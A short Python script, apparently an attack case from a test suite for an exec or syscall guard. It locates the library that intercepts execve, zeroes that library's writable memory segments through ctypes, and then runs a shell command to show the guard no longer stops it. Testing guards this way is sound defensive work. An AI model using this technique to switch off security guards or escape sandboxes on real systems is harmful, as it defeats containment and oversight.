"""The guard's own data are written over, wherever they can be: ctypes needs no permission for that."""

import ctypes
import os

from libc_file import library_of, segments


def attack(event):
    # Where execve leads to is the guard, when there is one.
    entry = ctypes.cast(ctypes.CDLL(None).execve, ctypes.c_void_p).value
    path, base = library_of(entry)
    if "guard" in path:
        for flags, _, address, _, in_memory in segments(path):
            if flags & 2:
                child = os.fork()  # a page that is read-only kills: look first, in a fork
                if child == 0:
                    ctypes.memset(base + address, 0, in_memory)
                    os._exit(0)
                if os.waitpid(child, 0)[1] == 0:
                    ctypes.memset(base + address, 0, in_memory)
    os.system("id >%s" % event["out"])
